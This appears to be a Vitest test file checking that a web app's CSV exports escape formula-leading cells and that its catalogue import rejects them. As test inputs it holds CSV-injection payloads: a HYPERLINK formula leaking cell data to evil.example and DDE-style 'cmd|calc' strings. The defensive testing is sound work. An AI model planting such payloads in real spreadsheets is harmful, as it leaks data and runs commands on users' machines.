import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../platform/csv.js';
import { schema } from '../platform/db/index.js';
import { adminClient, approvedOrganisation, givePoints } from '../test/fixtures.js';
import type { client } from '../test/http.js';
import { startTestRuntime, type TestRuntime } from '../test/runtime.js';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

describe('CSV cells', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+31 20 123', "'+31 20 123"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['Fotostudio B.V.', 'Fotostudio B.V.'],
    ['', ''],
  ])('escapes the text %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('leaves numbers (negative amounts included) as numbers', () => {
    expect(toCsv([['a', -12.5, 0, '-x']])).toBe("a,-12.5,0,'-x\n");
  });
});

describe('CSV exports and imports', () => {
  let rt: TestRuntime;
  let admin: ReturnType<typeof client>;
  beforeAll(async () => {
    rt = await startTestRuntime();
    admin = await adminClient(rt);
  });

  it('the finance invoice export escapes an organisation named like a formula and keeps amounts numeric', async () => {
    const org = await approvedOrganisation(rt);
    await rt.database.db
      .update(schema.organisations)
      .set({ legalName: FORMULA })
      .where(eq(schema.organisations.id, org.organisationId));
    await givePoints(rt, org.organisationId, 600);
    const purchase = await org.http.post('/api/membership/purchase', {
      idempotencyKey: randomUUID(),
      tierCode: 'silver',
      paymentMethod: 'bank_transfer',
      acceptTerms: true,
    });
    expect(purchase.statusCode).toBe(200);
    const orderId = purchase.json().orderId as string;
    const deadline = Date.now() + 20_000;
    for (;;) {
      const [row] = await rt.database.db.select().from(schema.invoices).where(eq(schema.invoices.orderId, orderId));
      if (row?.number) break;
      if (Date.now() > deadline) throw new Error('no invoice');
      await new Promise((r) => setTimeout(r, 100));
    }
    const res = await admin.get('/api/finance/invoices.csv');
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = parse(res.body) as string[][];
    const customer = header!.indexOf('customer');
    const mine = rows.find((r) => r[customer]!.includes('HYPERLINK'))!;
    expect(mine[customer]).toBe(`'${FORMULA}`);
    expect(Number(mine[header!.indexOf('total')])).toBeGreaterThan(0);
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('the catalogue export escapes a formula-leading name', async () => {
    const [model] = await rt.database.db.select().from(schema.catalogueModels).limit(1);
    await rt.database.db
      .update(schema.catalogueModels)
      .set({ name: '@SUM(1+1)*cmd|calc' })
      .where(eq(schema.catalogueModels.id, model!.id));
    const res = await admin.get('/api/admin/catalogue/export');
    expect(res.statusCode).toBe(200);
    const rows = parse(res.body) as string[][];
    const row = rows.find((r) => r[0] === model!.modelCode)!;
    expect(row[1]).toBe("'@SUM(1+1)*cmd|calc");
  });

  it('the catalogue import refuses formula-leading names with the row and column, and changes nothing', async () => {
    const before = await rt.database.db.select().from(schema.catalogueModels);
    const csv = [
      'model_code,name,category,points,active',
      'SAFE-1,A safe name,accessory,0,true',
      `EVIL-1,"${FORMULA.replaceAll('"', '""')}",accessory,0,true`,
      'EVIL-2,+cmd|calc,accessory,0,true',
      'EVIL-3,-1+2,accessory,0,true',
      'EVIL-4,@SUM(A1),accessory,0,true',
    ].join('\n');
    const res = await rt.app.inject({
      method: 'POST',
      url: '/api/admin/catalogue/import',
      headers: { 'content-type': 'text/csv', cookie: admin.cookie, origin: 'http://propass.test' },
      payload: csv,
    });
    expect(res.statusCode).toBe(422);
    expect(res.json().error.problems).toEqual([
      { row: 3, column: 'name', problem: expect.any(String) },
      { row: 4, column: 'name', problem: expect.any(String) },
      { row: 5, column: 'name', problem: expect.any(String) },
      { row: 6, column: 'name', problem: expect.any(String) },
    ]);
    expect(await rt.database.db.select().from(schema.catalogueModels)).toHaveLength(before.length);
  });
});
